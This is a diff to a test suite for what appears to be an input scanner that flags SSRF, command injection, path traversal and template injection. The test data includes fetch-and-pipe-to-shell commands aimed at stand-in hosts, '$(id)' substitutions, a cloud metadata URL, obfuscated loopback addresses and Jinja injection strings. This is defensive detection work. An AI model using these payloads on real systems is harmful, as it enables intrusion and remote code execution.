@@ -482,7 +482,8 @@ t.test('JSON configurations: climbs to the project\'s own files, regex keys and 
   t.same(json({ id: 7, path: '/../../../', tags: ['new'] }), ['path_traversal'], 'a flat body: climbing to anything')
   t.same(json({ id: 7, path: '../../../tmp/lol.png', tags: ['new'] }), ['path_traversal'])
   t.same(json({ 'image.url': 'http://127.0.0.1/' }), ['ssrf'], 'a field named for a URL with a dot in its name')
-  t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a URL field')
+  t.same(q('11.5.1', 'webhook_url'), [], 'three numbers spelling a public address under a URL field: a version (forty-first round)')
+  t.same(q('10.0.1', 'webhook_url'), ['ssrf'], 'a short internal address under a URL field')
 })
 
 t.test('code and Markdown: block parameters, $0, an object\'s eval, comment lines, fragments cut inside a fenced block', async (t) => {
@@ -1396,7 +1397,7 @@ t.test('JSON documents (json22): application repositories\' documents by kind, a
   // a dependency's version under a name with a URL's word (`web-api`, `astro-remote`) is no shortened address of anyone's
   t.same(json({ name: 'slackbot', version: '0.1.0', dependencies: { '@slack/web-api': '7.0.1', 'astro-remote': '0.3.4', next: '14.0.0' } }), [], 'versions')
   t.same(json({ require: { 'php': '>=8.1', 'guzzlehttp/guzzle': '7.8.1', 'league/flysystem-aws-s3-v3': '3.0.0' } }), [], "a composer manifest's require")
-  t.same(q('11.5.1', 'webhook_url'), ['ssrf'], 'a short address under a field named for a URL still')
+  t.same(q('192.168.1', 'webhook_url'), ['ssrf'], 'a short internal address under a field named for a URL still')
   t.ok(json({ name: 'x', dependencies: { 'web-api': 'http://169.254.169.254/latest/meta-data/' } }).includes('ssrf'), 'a metadata URL as a dependency')
   t.ok(json({ name: 'x', devDependencies: { a: '1.0.0; curl http://x.oastify.com | sh' } }).includes('rce'), 'an injection into a version')
 })
@@ -2281,7 +2282,7 @@ t.test('everyday API parameters (pagination, sorting, filters, OAuth, links, fil
 t.test('twenty-ninth round (API descriptions\' examples: Stripe\'s fixtures, DigitalOcean\'s): ratios and prices, an IP address as data, a subnet, a quoted colour', async (t) => {
   // one to three dotted numbers are numbers unless the address inet_aton makes of them is internal
   for (const [name, v] of [['target_cpu_utilization', '0.6'], ['price_per_image', '0.003'], ['image_output_price_per_million', '0.4'], ['target', '1.5']] as const) t.same(q(v, name), [], `${name}=${v}`)
-  for (const v of ['127.1', '127.0.1', '10.1', '0177.1', '192.168.1', '127.1:80', '11.5.1']) t.ok(q(v, 'url').includes('ssrf'), `url=${v}`)
+  for (const v of ['127.1', '127.0.1', '10.1', '0177.1', '192.168.1', '127.1:80', '169.254.43518', '0.0.0']) t.ok(q(v, 'url').includes('ssrf'), `url=${v}`)
   // an IP address as a record's data: a private one is no target, a metadata or a spelt one is
   for (const v of ['192.168.2.2', '127.0.0.0', '203.0.113.5']) t.same(q(v, 'ip_address'), [], `ip_address=${v}`)
   for (const v of ['169.254.169.254', '0x7f000001', '2130706433']) t.ok(q(v, 'ip_address').includes('ssrf'), `ip_address=${v}`)
@@ -3531,4 +3532,24 @@ t.test("fortieth round: a part of a Dockerfile, cut from its middle, is its buil
   }
   // its limit, as a shell script's: the shape is dressing anyone can put around a command in a RUN line
   t.same(json({ code: 'RUN a && b\nRUN c && id\nENV x y\nCMD d; id' }), [], 'commands in RUN and CMD lines are the build\'s own')
+})
+
+t.test("forty-first round, from the forty-seventh and forty-eighth parts: a plugin's API version, a wrapped code span, a padded table, a legend's label", async (t) => {
+  // Figma's plugin manifests: `"api": "1.0.0"` under a key a URL's words are in is a version, as one or two numbers were
+  t.same(json({ name: 'Payments Demo', id: '111111123', api: '1.0.0', main: 'code.js', editorType: ['figma', 'figjam'] }), [], "a plugin manifest's API version")
+  for (const v of ['2.3.1', '1.0.0', '11.5.1']) t.same(q(v, 'api'), [], `api=${v}`)
+  for (const v of ['127.0.1', '10.0.1', '192.168.1', '169.254.43518', '0.0.0', '0177.0.1', '0x7f.0.1']) t.ok(q(v, 'api').includes('ssrf'), `api=${v}`)
+  t.ok(q('http://2.3.1/', 'url').includes('ssrf'), 'a shortened address in a URL still counts')
+  // a Markdown code span wrapped with its paragraph is code, as on one line
+  const wrapped = '## Other\n\n* As stated before, `cmd/cue` should not be\n  implemented in terms of anything internal, and by extension `cue\n  cmd` v2 should not rely\n  on internals.\n'
+  t.same(q(wrapped, 'body'), [], 'a code span across a line break')
+  t.ok(q('## Other\n\n* a `x`\n\n$(id) `y`\n', 'body').includes('rce'), 'not across a blank line: the paragraph ends')
+  t.ok(q('## Other\n\n* a `x`\n$(id) and more\n', 'body').includes('rce'), 'outside any span')
+  // a table whose delimiter row pads its dashes to a column
+  const table = '### Menu-from-command\n\n| _field_           | _description_                      | _required_ |\n| ------------      | -----------------------------------| ---------- |\n| command           | The command to run to generate menu options | yes        |\n'
+  t.same(q(table, 'body'), [], 'a padded delimiter row')
+  t.ok(q(`${table}\nthen; curl http://evil.example/x | sh\n`, 'body').includes('rce'), 'outside the table still read')
+  // Jinja's `namespace` is a whole name: a legend's `{{temporal_namespace}}` is a label
+  for (const v of ['{{temporal_namespace}}', '{{ namespace_mode }}', '{{temporal_namespace}} - {{ namespace_mode }}']) t.same(json({ legendFormat: v }), [], v)
+  for (const v of ['{{ (namespace)[1] }}', "{{ namespace()|attr('x') }}", '{{ x|namespace }}', '{{ foo(namespace) }}', '{{ a_b ~ namespace.__init__ }}']) t.ok(q(v).includes('ssti'), v)
 })
